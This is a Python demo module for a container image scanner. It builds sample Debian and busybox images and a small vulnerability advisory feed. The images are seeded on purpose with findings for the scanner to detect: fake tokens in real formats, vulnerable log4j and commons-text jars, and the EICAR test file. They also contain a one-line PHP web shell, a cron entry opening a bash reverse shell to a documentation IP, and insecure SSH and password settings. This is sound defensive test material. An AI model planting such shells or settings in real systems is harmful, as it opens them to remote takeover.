"""The demo: sample images built in code, a small advisory feed, scanned into one database.

Needs no Docker and no network. Three images, like the public corpus in miniature:

* demo/base:1        a Debian 11 base (os-release, dpkg status, accounts)
* demo/shop:1.0      built on it: nmap and netcat, a vulnerable log4j jar, npm and PyPI packages,
                     planted secrets (one deleted by a later layer), test malware, unsafe settings
* demo/tools:1       a busybox image on a foreign base

The secrets are random values in real token formats, made afresh on every run: none is live.
"""
from __future__ import annotations

import io
import json
import os
import secrets
import string
import zipfile

from .imagebuilder import WHITEOUT, File, ImageBuilder, Symlink

BASE_PACKAGES = [
    ("base-files", "11.1+deb11u11", "", "amd64"),
    ("libc6", "2.31-13+deb11u11", "glibc", "amd64"),
    ("bash", "5.1-2+deb11u1", "", "amd64"),
    ("passwd", "1:4.8.1-1", "shadow", "amd64"),
    ("openssl", "1.1.1n-0+deb11u3", "", "amd64"),
    ("libssl1.1", "1.1.1n-0+deb11u3", "openssl", "amd64"),
    ("openssh-server", "1:8.4p1-5+deb11u3", "openssh", "amd64"),
]
TOOL_PACKAGES = [
    ("nmap", "7.91+dfsg1+really7.80+dfsg1-2", "", "amd64"),
    ("netcat-openbsd", "1.217-3", "", "amd64"),
]


def _status(packages) -> str:
    out = []
    for name, version, source, arch in packages:
        out.append(f"Package: {name}\nStatus: install ok installed\nPriority: optional\nArchitecture: {arch}\n"
                   + (f"Source: {source}\n" if source else "") + f"Version: {version}\n"
                   f"Description: {name} (demo)\n")
    return "\n".join(out)


def _jar(group: str, artifact: str, version: str) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("META-INF/MANIFEST.MF", f"Manifest-Version: 1.0\nImplementation-Title: {artifact}\n"
                                           f"Implementation-Version: {version}\n")
        z.writestr(f"META-INF/maven/{group}/{artifact}/pom.properties",
                   f"groupId={group}\nartifactId={artifact}\nversion={version}\n")
        z.writestr(f"{artifact.replace('-', '/')}/Main.class", b"\xca\xfe\xba\xbe" + b"\0" * 64)
    return buf.getvalue()


def _token(alphabet: str, n: int) -> str:
    return "".join(secrets.choice(alphabet) for _ in range(n))


ALNUM = string.ascii_letters + string.digits
UPPER = string.ascii_uppercase + string.digits

OS_RELEASE = ('PRETTY_NAME="Debian GNU/Linux 11 (bullseye)"\nNAME="Debian GNU/Linux"\nVERSION_ID="11"\n'
              'VERSION="11 (bullseye)"\nVERSION_CODENAME=bullseye\nID=debian\n')
PASSWD = ("root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
          "nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin\n")
GROUP = "root:x:0:\ndaemon:x:1:\nshadow:x:42:\nnogroup:x:65534:\n"


def _hash(password: str, prefix: str = "$6$") -> str:
    from stowaway.analyzers.settings.crypt import libcrypt

    lib = libcrypt()
    hashed = lib.crypt(password.encode(), lib.gensalt(prefix))
    if hashed is None:
        raise RuntimeError(f"this system's libcrypt cannot make {prefix} hashes")
    return hashed


def base_image() -> ImageBuilder:
    img = ImageBuilder()
    img.layer({
        "usr/lib/os-release": OS_RELEASE,
        "etc/os-release": Symlink("../usr/lib/os-release"),
        "etc/debian_version": "11.11\n",
        "etc/passwd": PASSWD,
        "etc/group": GROUP,
        "etc/shadow": File("root:*:19000:0:99999:7:::\ndaemon:*:19000:0:99999:7:::\nnobody:*:19000:0:99999:7:::\n",
                           mode=0o640, gid=42),
        "etc/login.defs": "PASS_MAX_DAYS\t90\nPASS_MIN_DAYS\t1\nPASS_WARN_AGE\t7\nENCRYPT_METHOD SHA512\n",
        "var/lib/dpkg/status": _status(BASE_PACKAGES),
        "bin/bash": File(b"\x7fELF\x02\x01\x01" + b"\0" * 4000, mode=0o755),
        "usr/lib/x86_64-linux-gnu/libc.so.6": File(b"\x7fELF\x02\x01\x01" + b"\1" * 9000, mode=0o755),
    }, created_by="/bin/sh -c #(nop) ADD file:demo-rootfs in / ")
    img.extra_history = []
    return img


def shop_image(base: ImageBuilder) -> ImageBuilder:
    img = ImageBuilder(layers=list(base.layers), created_by=list(base.created_by))
    img.env = img.env + ["APP_HOME=/opt/app", "DB_PASSWORD=" + _token(ALNUM, 14)]
    img.layer({
        "var/lib/dpkg/status": _status(BASE_PACKAGES + TOOL_PACKAGES),
        "usr/bin/nmap": File(b"\x7fELF\x02\x01\x01nmap" + b"\0" * 3000, mode=0o755),
        "bin/nc.openbsd": File(b"\x7fELF\x02\x01\x01nc" + b"\0" * 900, mode=0o755),
        "etc/ssh/ssh_host_ed25519_key": File("-----BEGIN OPENSSH PRIVATE KEY-----\n" + _token(ALNUM, 64) + "\n"
                                             + _token(ALNUM, 64) + "\n-----END OPENSSH PRIVATE KEY-----\n", mode=0o600),
    }, created_by="/bin/sh -c apt-get install -y nmap netcat-openbsd openssh-server")
    env_file = (f"GITHUB_TOKEN=ghp_{_token(ALNUM, 36)}\nSTRIPE_KEY=sk_live_{_token(ALNUM, 24)}\n"
                f"DATABASE_URL=postgres://shop:{_token(ALNUM, 16)}@db.internal:5432/shop\n")
    img.layer({
        "opt/app/lib/log4j-core-2.14.1.jar": _jar("org.apache.logging.log4j", "log4j-core", "2.14.1"),
        "opt/app/lib/commons-text-1.9.jar": _jar("org.apache.commons", "commons-text", "1.9"),
        "opt/app/.env": env_file,
        "opt/app/config/application.properties": (f"aws.accessKeyId=AKIA{_token(UPPER, 16)}\n"
                                                   f"aws.secretKey={_token(ALNUM + '/+', 40)}\n"),
        "opt/app/web/node_modules/lodash/package.json": json.dumps({"name": "lodash", "version": "4.17.15",
                                                                    "license": "MIT"}),
        "opt/app/web/package.json": json.dumps({"name": "demo-shop-web", "version": "1.0.0", "private": True}),
        "opt/app/data/catalog.bin": File(os.urandom(300_000)),
    }, created_by="/bin/sh -c #(nop) COPY dir:demo-app in /opt/app")
    img.layer({
        "usr/local/lib/python3.9/site-packages/requests-2.19.1.dist-info/METADATA":
            "Metadata-Version: 2.1\nName: requests\nVersion: 2.19.1\nLicense: Apache 2.0\n",
        "usr/local/lib/python3.9/site-packages/requests-2.19.1.dist-info/RECORD": "requests/__init__.py,,\n",
    }, created_by="/bin/sh -c pip install requests==2.19.1")
    eicar = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
    img.layer({
        "tmp/eicar.com": eicar,
        "opt/app/web/uploads/shell.php": "<?php " + "ev" + "al($_POST['cmd']); ?>\n",
        "etc/cron.d/sync": "* * * * * root bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n",
    }, created_by="/bin/sh -c #(nop) COPY multi:demo-test-malware in /")
    img.layer({
        "etc/ssh/sshd_config": ("Port 22\nPermitRootLogin yes\nPasswordAuthentication yes\nPermitEmptyPasswords yes\n"
                                "X11Forwarding yes\nMaxAuthTries 10\n"),
        "etc/login.defs": "PASS_MAX_DAYS\t99999\nPASS_MIN_DAYS\t0\nPASS_WARN_AGE\t7\n",
        "etc/passwd": PASSWD + "admin:x:1000:1000::/home/admin:/bin/bash\nguest:x:1001:1001::/home/guest:/bin/bash\n",
        "etc/shadow": File(f"root:*:19000:0:99999:7:::\ndaemon:*:19000:0:99999:7:::\nnobody:*:19000:0:99999:7:::\n"
                           f"admin:{_hash('admin123')}:19000:0:99999:7:::\nguest::19000:0:99999:7:::\n", mode=0o644),
        "etc/app.conf": File("mode=production\n", mode=0o666),
        "usr/local/bin/backup": File(b"\x7fELF\x02\x01\x01" + b"\0" * 4000, mode=0o4755),
    }, created_by="/bin/sh -c useradd admin && chmod 644 /etc/shadow && cp /bin/bash /usr/local/bin/backup"
                  " && chmod u+s /usr/local/bin/backup")
    img.layer({"opt/app/config/old-credentials.json": json.dumps(
        {"aws_access_key_id": "AKIA" + _token(UPPER, 16), "aws_secret_access_key": _token(ALNUM, 40)})},
        created_by="/bin/sh -c #(nop) COPY file:old-credentials in /opt/app/config/")
    img.layer({"opt/app/config/.wh.old-credentials.json": WHITEOUT},
              created_by="/bin/sh -c rm /opt/app/config/old-credentials.json")
    img.cmd = ["java", "-jar", "/opt/app/app.jar"]
    return img


def tools_image() -> ImageBuilder:
    img = ImageBuilder()
    img.layer({
        "bin/busybox": File(b"\x7fELF\x02\x01\x01busybox" + b"\0" * 20000, mode=0o755),
        "bin/sh": Symlink("busybox"),
        "bin/nc": Symlink("busybox"),
        "etc/passwd": "root:x:0:0:root:/root:/bin/sh\n",
        "etc/shadow": "root::19000:0:99999:7:::\n",
    }, created_by="/bin/sh -c #(nop) ADD file:busybox in / ")
    return img


def feed() -> list[dict]:
    """OSV records for the demo's vulnerable packages (facts from the public advisories)."""
    modified = "2024-01-01T00:00:00Z"
    return [
        {"id": "GHSA-jfh8-c2jp-5v3q", "aliases": ["CVE-2021-44228"], "modified": modified,
         "published": "2021-12-10T00:00:00Z", "summary": "Remote code injection in Log4j",
         "severity": [{"type": "CVSS_V3", "score": "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:H/A:H"}],
         "affected": [{"package": {"ecosystem": "Maven", "name": "org.apache.logging.log4j:log4j-core"},
                       "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "2.0-beta9"}, {"fixed": "2.15.0"}]}]}],
         "database_specific": {"severity": "CRITICAL"}},
        {"id": "GHSA-599f-7c49-w659", "aliases": ["CVE-2022-42889"], "modified": modified,
         "published": "2022-10-13T00:00:00Z", "summary": "Arbitrary code execution in Apache Commons Text",
         "severity": [{"type": "CVSS_V3", "score": "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H"}],
         "affected": [{"package": {"ecosystem": "Maven", "name": "org.apache.commons:commons-text"},
                       "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "1.5"}, {"fixed": "1.10.0"}]}]}],
         "database_specific": {"severity": "CRITICAL"}},
        {"id": "GHSA-p6mc-m468-83gw", "aliases": ["CVE-2020-8203"], "modified": modified,
         "published": "2020-07-15T00:00:00Z", "summary": "Prototype Pollution in lodash",
         "severity": [{"type": "CVSS_V3", "score": "CVSS:3.1/AV:N/AC:H/PR:N/UI:N/S:U/C:N/I:H/A:H"}],
         "affected": [{"package": {"ecosystem": "npm", "name": "lodash"},
                       "ranges": [{"type": "SEMVER", "events": [{"introduced": "3.7.0"}, {"fixed": "4.17.19"}]}]}],
         "database_specific": {"severity": "HIGH"}},
        {"id": "GHSA-x84v-xcm2-53pg", "aliases": ["CVE-2018-18074"], "modified": modified,
         "published": "2018-10-29T00:00:00Z", "summary": "Insufficiently Protected Credentials in Requests",
         "severity": [{"type": "CVSS_V3", "score": "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N"}],
         "affected": [{"package": {"ecosystem": "PyPI", "name": "requests"},
                       "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"fixed": "2.20.0"}]}]}],
         "database_specific": {"severity": "HIGH"}},
        {"id": "DSA-5343-1", "aliases": ["CVE-2023-0286"], "modified": modified, "published": "2023-02-07T00:00:00Z",
         "summary": "openssl: X.400 address type confusion",
         "severity": [{"type": "CVSS_V3", "score": "CVSS:3.1/AV:N/AC:H/PR:N/UI:N/S:U/C:H/I:N/A:H"}],
         "affected": [{"package": {"ecosystem": "Debian:11", "name": "openssl"},
                       "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"fixed": "1.1.1n-0+deb11u4"}]}]}]},
    ]


def build(directory: str) -> dict[str, str]:
    """Writes the sample images and the feed under `directory`; returns the paths by role."""
    os.makedirs(directory, exist_ok=True)
    base = base_image()
    shop = shop_image(base)
    tools = tools_image()
    oci = os.path.join(directory, "oci")
    if os.path.exists(os.path.join(oci, "index.json")):
        os.remove(os.path.join(oci, "index.json"))
    base.write_oci_layout(oci, ref="demo/base:1")
    tools.write_oci_layout(oci, ref="demo/tools:1", append=True)
    archive = shop.write_docker_archive(os.path.join(directory, "shop-1.0.docker.tar.gz"), ref="demo/shop:1.0",
                                        compress_with="gzip")
    feed_dir = os.path.join(directory, "feed")
    os.makedirs(feed_dir, exist_ok=True)
    for record in feed():
        with open(os.path.join(feed_dir, record["id"] + ".json"), "w") as fh:
            json.dump(record, fh, indent=1)
    return {"oci": oci, "archive": archive, "feed": feed_dir}
